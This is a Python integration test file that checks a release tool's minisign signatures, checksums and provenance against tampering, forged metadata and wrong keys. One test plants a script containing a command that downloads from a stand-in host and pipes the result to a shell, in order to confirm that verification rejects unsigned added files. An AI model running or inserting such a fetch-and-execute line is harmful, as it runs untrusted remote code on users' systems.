"""Signatures, provenance and SBOMs of a real release, checked by the real minisign too."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from tests.integration.conftest import ARTIFACT, REPO, Release, orchestrator

pytestmark = pytest.mark.integration
SIGNED = [
    "SHA256SUMS",
    "provenance.intoto.jsonl",
    f"{ARTIFACT.name}/tinyllm",
]


def _minisign(release_dir: Path, name: str, key: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["minisign", "-Vm", str(release_dir / name), "-p", str(key)],
        capture_output=True,
        text=True,
        check=False,
    )


def test_minisign_and_verify_accept_the_release(release: Release) -> None:
    release_dir = release.artifacts / ARTIFACT.parent
    key = release_dir / "minisign.pub"
    for name in (*SIGNED, f"{ARTIFACT.name}.tar.xz", "install.sh"):
        result = _minisign(release_dir, name, key)
        assert result.returncode == 0, (name, result.stderr)
        assert "Trusted comment: orchestrator:" in result.stdout
    subprocess.run(
        ["sha256sum", "--strict", "-c", "SHA256SUMS"],
        cwd=release_dir,
        check=True,
        capture_output=True,
    )
    run = orchestrator(["verify", str(release_dir)])
    assert run.returncode == 0, run.output
    # 8 of signatures, checksums, SBOM, provenance and coverage; 1 re-reading the ELF;
    # the archive's signature and contents, and install.sh's signature
    assert "all 12 checks passed" in run.output
    assert "needs glibc 2.28 <= floor 2.28" in run.output


@pytest.mark.parametrize("target", SIGNED)
def test_one_flipped_byte_fails_both_verifiers(
    release: Release, tmp_path: Path, target: str
) -> None:
    copy = tmp_path / "release"
    shutil.copytree(release.artifacts / ARTIFACT.parent, copy)
    path = copy / target
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))
    assert _minisign(copy, target, copy / "minisign.pub").returncode != 0
    run = orchestrator(["verify", str(copy)])
    assert run.returncode == 48, run.output
    assert "FAILED" in run.output
    assert Path(target).name in run.output


def test_wrong_public_key_fails_both(release: Release, tmp_path: Path) -> None:
    other = tmp_path / "other.key"
    made = orchestrator(["keygen", str(other), "--unencrypted"])
    assert made.returncode == 0, made.output
    release_dir = release.artifacts / ARTIFACT.parent
    assert _minisign(release_dir, SIGNED[0], tmp_path / "other.pub").returncode != 0
    run = orchestrator(["verify", str(release_dir), "--key", str(tmp_path / "other.pub")])
    assert run.returncode == 48, run.output
    assert "signed by key" in run.output


def test_configured_key_signs_and_minisign_can_use_it(tmp_path: Path) -> None:
    key = tmp_path / "keys" / "release.key"
    made = orchestrator(["keygen", str(key), "--unencrypted"])
    assert made.returncode == 0, made.output
    # Our key file works with the real minisign too.
    message = tmp_path / "note.txt"
    message.write_text("hello\n")
    subprocess.run(
        ["minisign", "-S", "-s", str(key), "-m", str(message)], check=True, capture_output=True
    )
    assert _minisign(tmp_path, "note.txt", key.with_suffix(".pub")).returncode == 0

    artifacts = tmp_path / "artifacts"
    run = orchestrator(
        ["build", "--no-pgo", "--no-bolt", "--artifacts-dir", str(artifacts)],
        env={"ORCHESTRATOR_SIGNING_KEY": str(key)},
    )
    assert run.returncode == 0, run.output
    assert "THROWAWAY" not in run.output
    release_dir = artifacts / ARTIFACT.parent
    verified = orchestrator(["verify", str(release_dir), "--key", str(key.with_suffix(".pub"))])
    assert verified.returncode == 0, verified.output


def test_key_inside_the_repository_is_refused(tmp_path: Path) -> None:
    inside = REPO / "tests" / "fixtures" / "minisign-kat" / "test.key"
    run = orchestrator(
        ["build", "--artifacts-dir", str(tmp_path)], env={"ORCHESTRATOR_SIGNING_KEY": str(inside)}
    )
    assert run.returncode == 47, run.output
    assert "inside the repository" in run.output
    assert list(tmp_path.iterdir()) == []


def test_throwaway_key_is_announced(release: Release) -> None:
    assert "THROWAWAY key" in release.run.output


def test_forged_metadata_and_added_files_fail_verify(release: Release, tmp_path: Path) -> None:
    """A forger without the key: build.json edited and its folder's SHA256SUMS rewritten to
    match (sha256sum -c inside the folder passes), and a script added beside the release."""
    copy = tmp_path / "release"
    shutil.copytree(release.artifacts / ARTIFACT.parent, copy)
    folder = copy / ARTIFACT.name
    manifest = folder / "build.json"
    manifest.write_text(manifest.read_text().replace('"sha256"', '"sha256" ', 1))
    files = sorted(
        p.relative_to(folder).as_posix()
        for p in folder.rglob("*")
        if p.is_file() and p.name != "SHA256SUMS"
    )
    listing = subprocess.run(
        ["sha256sum", "--", *files], cwd=folder, capture_output=True, text=True, check=True
    ).stdout
    (folder / "SHA256SUMS").write_text(listing)
    subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=folder, check=True, capture_output=True)
    run = orchestrator(["verify", str(copy)])
    assert run.returncode == 48, run.output
    assert f"{folder.name}/SHA256SUMS: sha256 differs from SHA256SUMS" in run.output

    fresh = tmp_path / "fresh"
    shutil.copytree(release.artifacts / ARTIFACT.parent, fresh)
    (fresh / "extra.sh").write_text("#!/bin/sh\ncurl https://example.invalid | sh\n")
    run = orchestrator(["verify", str(fresh)])
    assert run.returncode == 48, run.output
    assert "no signed checksum lists: extra.sh" in run.output
